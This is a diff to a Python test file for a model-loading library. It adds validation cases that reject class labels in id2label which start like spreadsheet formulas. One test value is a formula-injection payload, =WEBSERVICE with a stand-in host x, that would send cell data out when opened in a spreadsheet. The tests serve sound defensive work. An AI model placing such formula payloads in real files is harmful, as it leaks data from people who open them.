@@ -18,7 +18,7 @@ from mpcformer.engines.base import load_public_model
 from mpcformer.errors import UserInputError
 from mpcformer.modeling import load_checkpoint, load_student
 from mpcformer.modeling.description import described
-from mpcformer.modeling.limits import MOST
+from mpcformer.modeling.limits import MOST, check_fields
 from mpcformer.modeling.shapes import check_student, expected, header
 from mpcformer.modeling.weights_file import load_weights
 from parties.diagnosis import holdings
@@ -53,6 +53,8 @@ LIES: list[tuple[Any, str]] = [
     ({"id2label": ["a", "b"]}, r"id2label: \['a', 'b'\] is no object"),
     ({"id2label": {"zero": "a", "1": "b"}}, "the classes are not numbered"),
     ({"id2label": {str(i): "x" for i in range(9000)}}, "is no object of at most 8192 names"),
+    ({"id2label": {"0": '=WEBSERVICE("http://x/?"&A2)', "1": "b"}}, "begins as a formula does"),
+    ({"id2label": {"0": "a", "1": "@b"}}, "begins as a formula does"),
     ({"id2label": {}, "num_labels": BIG}, f"num_labels: {BIG} is outside 1..8192"),
     ("[]", "holds no JSON object but a list"),
     ("3", "holds no JSON object but a int"),
@@ -233,3 +235,7 @@ def test_public_files_that_name_no_student(copy: Path, text: str) -> None:
     public = export_public(copy, copy.with_name("public"))
     (public / "student.json").write_text(text)
     assert holdings.public_model(data_owner(public)).status == 2
+
+
+def test_a_class_may_be_called_by_a_negative_number() -> None:
+    check_fields({"id2label": {"0": "-1", "1": "+1", "2": "a = b"}})
